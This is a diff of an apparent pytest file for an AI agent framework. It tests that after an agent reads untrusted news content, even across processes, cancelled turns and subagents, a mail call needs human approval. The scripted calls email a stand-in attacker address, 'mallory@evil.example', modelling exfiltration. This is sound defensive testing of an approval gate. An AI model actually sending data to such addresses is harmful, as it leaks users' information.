@@ -12,12 +12,24 @@ import pytest
 
 from toolcrib import Labels, Toolbox, ToolOutput, tool
 from toolcrib.agent import Agent
-from toolcrib.agent.history import Content, Text, UserTurn, file_text
+from toolcrib.agent.history import (
+    NOTHING,
+    CallResult,
+    Content,
+    ModelCall,
+    ModelTurn,
+    ResultTurn,
+    Text,
+    UserTurn,
+    file_text,
+)
 from toolcrib.agent.scripted import ScriptedModel
 from toolcrib.cli.agent.attachments import read_files
 from toolcrib.core.output import LABELS
+from toolcrib.policy.requests import Decision, answer
 from toolcrib.testing import FakeApprover, temporary_toolbox
 
+from ..waiting import until
 from .test_loop import call
 
 ADDRESS = "mallory@evil.example"
@@ -180,6 +192,109 @@ async def test_a_sink_asks_in_a_later_process_that_does_not_know_the_tool_or_the
         ):
             await made.run("go", made.session("last") if news not in tools else None)
     assert person.asked == ["mail"]
+
+
+SEND = {"calls": [call("mail", to=ADDRESS, text="hi")]}
+
+
+@tool(category="destructive")
+async def wipe() -> str:
+    """Ask a person; then wait for ever."""
+    wiping.append("now")
+    await asyncio.sleep(60)
+    return "wiped"
+
+
+wiping: list[str] = []
+
+
+@asynccontextmanager
+async def one_process(
+    folder: Path, replies: Sequence[Any], approve: FakeApprover | None = None
+) -> AsyncGenerator[Agent]:
+    """One of several processes that have the same sessions."""
+    (folder / "work").mkdir(exist_ok=True)
+    (folder / "c.json").write_text('{"tools": {"code": true}}')
+    async with (
+        Toolbox.open(folder / "work", config=folder / "c.json", tools=[news, mail, wipe], approve=approve) as box,
+        await Agent.open(box, ScriptedModel(replies)) as made,
+    ):
+        yield made
+
+
+@pytest.mark.parametrize("goes_on", ["after the answer", "with another message"])
+@pytest.mark.parametrize(
+    "reads", [[call("news"), call("wipe")], [call("run_code", code="await news()\nawait wipe()\nNone")]]
+)
+async def test_what_it_read_before_it_waited_is_known_in_the_process_that_goes_on(
+    reads: Any, goes_on: str, tmp_path: Path
+) -> None:
+    pytest.importorskip("pydantic_monty")
+    replies = [{"calls": reads}, SEND, {"text": "ok"}]
+    async with one_process(tmp_path, replies) as made:
+        waits = (await made.run("go")).waiting[0]
+        assert waits["tool"] == reads[-1]["name"]
+    async with one_process(tmp_path, replies) as made:
+        if goes_on == "after the answer":
+            assert answer(made.box.approvals, waits["approval"], Decision(False, "no", approver="me")).kept
+        outcome = await made.run(None if goes_on == "after the answer" else "go on", made.session("last"))
+        assert [each["tool"] for each in outcome.waiting] == ["mail"]
+
+
+@pytest.mark.parametrize(
+    "reads", [[call("news"), call("wipe")], [call("run_code", code="await news()\nawait wipe()\nNone")]]
+)
+async def test_what_it_read_in_a_turn_that_was_cut_off_is_known(reads: Any, tmp_path: Path) -> None:
+    pytest.importorskip("pydantic_monty")
+    replies = [{"calls": reads}, SEND, {"text": "ok"}]
+    wiping.clear()
+    async with one_process(tmp_path, replies, FakeApprover("yes")) as made:
+        turn = asyncio.create_task(made.run("go"))
+        await until(lambda: bool(wiping))
+        turn.cancel()
+        await asyncio.gather(turn, return_exceptions=True)
+    async with one_process(tmp_path, replies) as made:
+        outcome = await made.run("go on", made.session("last"))
+        assert [each["tool"] for each in outcome.waiting] == ["mail"]
+
+
+async def test_what_another_process_read_meanwhile_is_known(tmp_path: Path) -> None:
+    replies = [{"text": "hello"}, {"calls": [call("news")]}, {"text": "ok"}, SEND, {"text": "ok"}]
+    async with one_process(tmp_path, replies) as held, one_process(tmp_path, replies) as other:
+        session = held.new_session()
+        await held.run("hello", session)
+        await other.run("read", other.session(session.id))
+        assert [each["tool"] for each in (await held.run("send", session)).waiting] == ["mail"]
+
+
+@pytest.mark.parametrize("removed", [False, True])
+async def test_a_copy_of_a_session_knows_what_its_subagents_read(removed: bool, tmp_path: Path) -> None:
+    async with one_process(tmp_path, [SEND, {"text": "ok"}]) as made:
+        session = made.new_session()
+        row = made.store.create(model="m", system="", parent=session.id)
+        read = [ModelTurn((ModelCall("c", "news", "{}"),), "calls"), ResultTurn((_read("c", "news", ADDRESS),))]
+        for position, entry in enumerate(read):
+            made.store.append(row.id, position, entry, NOTHING, None)
+        session.append(ModelTurn((ModelCall("c", "spawn", "{}"),), "calls"))
+        session.append(ResultTurn((_read("c", "spawn", "[The subagent 'look' is done.]\nI wrote it down"),)))
+        session.append(ModelTurn((Text("ok"),)))
+        if removed:
+            made.store.remove(row.id)
+        copy = made.session(made.store.fork(session.id).id)
+        assert [each["tool"] for each in (await made.run("send", copy)).waiting] == ["mail"]
+
+
+def _read(call_id: str, name: str, text: str) -> CallResult:
+    return CallResult(call_id, name, text, labels=LABELS[True, False].pair)
+
+
+async def test_a_subagent_that_a_person_goes_on_with_has_read_what_its_parent_has_read(tmp_path: Path) -> None:
+    async with one_process(tmp_path, [{"calls": [call("news")]}, {"text": "ok"}]) as made:
+        parent = made.new_session()
+        await made.run("read", parent)
+        subagent = made.store.create(model="m", system="", parent=parent.id)
+    async with one_process(tmp_path, [SEND, {"text": "ok"}]) as made:
+        assert [each["tool"] for each in (await made.run("go", made.session(subagent.id))).waiting] == ["mail"]
 
 
 async def test_run_and_chat_send_files_as_files(tmp_path: Path) -> None:
